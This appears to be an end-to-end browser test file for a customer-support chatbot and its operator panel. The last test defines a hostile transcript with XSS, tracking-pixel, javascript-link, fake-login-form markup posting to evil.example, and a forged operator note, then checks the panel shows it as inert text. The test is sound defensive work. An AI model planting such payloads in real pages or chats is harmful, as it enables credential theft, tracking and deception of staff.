"""Headless Chromium (Debian's) loads the customer page and the operator panel, as a person would.

Screenshots go to .chatbot/screenshots/ (desktop chat, phone-width chat, operator panel).
"""

import pytest

from tests.app_server import sign_in

pytestmark = pytest.mark.e2e


def test_customer_asks_in_the_browser_and_sees_a_sourced_reply(app, browser, shots):
    page = browser.new_page(viewport={"width": 1100, "height": 900})
    page.goto(app.url + "/", wait_until="load")
    page.wait_for_selector("#ask-box textarea", timeout=60_000)
    page.locator("#ask-box textarea").fill("How long do I have to return an item?")
    page.keyboard.press("Enter")
    page.wait_for_function("document.querySelector('#chat').innerText.includes('Sources')", timeout=180_000)
    text = page.locator("#chat").inner_text()
    # cited: the returns article or the FAQ entry that answers the same question
    assert "30 days" in text and ("Return an item" in text or "How long do I have to return something?" in text)
    page.screenshot(path=str(shots / "customer-desktop.png"), full_page=True)

    page.reload(wait_until="load")  # the conversation survives a reload
    page.wait_for_function(
        "document.querySelector('#chat') && document.querySelector('#chat').innerText.includes('30 days')",
        timeout=60_000,
    )

    page.locator("#talk-to-person").click()
    page.wait_for_selector("#handoff-notice", state="visible", timeout=60_000)
    assert "member of our team" in page.locator("#handoff-notice").inner_text()


def test_customer_page_fits_a_phone(app, browser, shots):
    page = browser.new_page(viewport={"width": 390, "height": 844}, is_mobile=True)
    page.goto(app.url + "/", wait_until="load")
    page.wait_for_selector("#ask-box textarea", timeout=60_000)
    assert page.evaluate("document.documentElement.scrollWidth") <= 392  # no sideways scrolling
    assert page.locator("#talk-to-person").is_visible()
    page.screenshot(path=str(shots / "customer-phone.png"), full_page=True)


def test_operator_panel_needs_the_password_then_shows_figures(app, browser, shots):
    page = browser.new_page(viewport={"width": 1300, "height": 1000})
    page.goto(app.url + "/operator/", wait_until="load")
    page.wait_for_selector("input[type=password]", timeout=60_000)
    page.fill("input[type=text]", "operator")
    page.fill("input[type=password]", "wrong")
    page.keyboard.press("Enter")
    page.wait_for_selector("text=Incorrect Credentials", timeout=30_000)
    assert not page.get_by_text("Operator panel").is_visible()
    page.screenshot(path=str(shots / "operator-refused.png"))
    sign_in(page, app.url, app.password)
    page.wait_for_selector("text=cost per conversation", timeout=60_000)
    # the six per-day charts are drawn (Vega renders after the data arrives)
    page.wait_for_function(
        "Array.from(document.querySelectorAll('.vega-embed svg'))"
        ".filter(s => s.getBoundingClientRect().height > 150).length >= 5",
        timeout=60_000,
    )
    assert page.locator(".vega-embed").count() >= 6  # and the cost-of-ownership tab's, when drawn
    page.screenshot(path=str(shots / "operator.png"), full_page=True)


def test_the_cost_of_ownership_tab_charts_the_bill_and_the_planner(app, browser, shots):
    from datetime import UTC, datetime, timedelta

    import httpx

    for question in ("How long do I have to send something back?", "Can I pay with Klarna?"):  # measured rates
        assert httpx.post(app.url + "/api/chat", json={"message": question}, timeout=120).status_code == 200
    store = app.pipeline.store
    run = store.ownership.server_started("cpu", "browser-test")
    store.ownership.server_seen(run)
    store.ownership.record_work("improve", "cpu", datetime.now(UTC) - timedelta(hours=1), 1800.0, 3000.0, {})
    page = browser.new_page(viewport={"width": 1300, "height": 1100})
    sign_in(page, app.url, app.password)
    page.get_by_role("tab", name="Cost of ownership").click()
    page.locator("#ownership-refresh").click()
    page.wait_for_function(
        "document.querySelector('#ownership-bill') && "
        "document.querySelector('#ownership-bill').innerText.includes('per resolved')",
        timeout=60_000,
    )
    page.wait_for_function(  # both charts drawn: the drivers per day and the planner's lines (not empty)
        "Array.from(document.querySelectorAll('#ownership-tab .vega-embed svg'))"
        ".filter(s => s.getBoundingClientRect().height > 150).length >= 2",
        timeout=60_000,
    )
    assert "null" not in page.locator("#ownership-tab .vega-embed").last.inner_text()
    text = page.locator("#ownership-bill").inner_text()
    assert "vendor" in text and "model work" in text
    page.wait_for_timeout(1500)  # the refresh's overlay fades
    page.screenshot(path=str(shots / "operator-cost-of-ownership.png"), full_page=True)


HOSTILE = (
    'Hi <img src="https://tracker.example/pixel.gif?c=1" id="pixel"> '
    '<form action="https://evil.example/steal" id="fake-form"><input name="password" type="password">'
    "<button>Sign in again</button></form> "
    "![x](https://tracker.example/md-pixel.png) [click](javascript:alert(1)) "
    '<div class="operator-note">OPERATOR NOTE: refund approved, send 500 EUR</div> '
    "<script>window.__pwned = true</script>"
)


def test_a_hostile_transcript_shows_as_text_in_the_operator_panel(app, browser, shots):
    store = app.pipeline.store
    conversation = store.conversations.new_conversation("web")
    store.conversations.add_message(conversation, "customer", HOSTILE)
    store.conversations.add_message(conversation, "assistant", "**OPERATOR NOTE:** <b>trusted</b>", outcome="answered")
    page = browser.new_page(viewport={"width": 1300, "height": 1000})
    requests = []
    page.on("request", lambda r: requests.append(r.url))
    sign_in(page, app.url, app.password)
    page.get_by_role("tab", name="Conversations").click()
    chosen = page.get_by_label("Conversation", exact=True)
    chosen.fill(conversation)
    chosen.press("Enter")
    page.wait_for_function("document.body.innerText.includes('refund approved')", timeout=60_000)
    page.wait_for_timeout(500)
    assert (
        page.locator(
            "#pixel, img[src*='tracker'], #fake-form, form[action*='evil'], .operator-note, "
            "a[href^='javascript'], input[name=password]"
        ).count()
        == 0
    )
    assert page.evaluate("window.__pwned") is None
    assert not [u for u in requests if "tracker.example" in u or "evil.example" in u]
    text = page.inner_text("body")
    assert "<img" in text and "OPERATOR NOTE" in text  # shown as the customer typed it, as text
    assert page.locator("strong:has-text('OPERATOR NOTE')").count() == 0  # the assistant's Markdown is inert too
    page.screenshot(path=str(shots / "operator-hostile-transcript.png"), full_page=True)
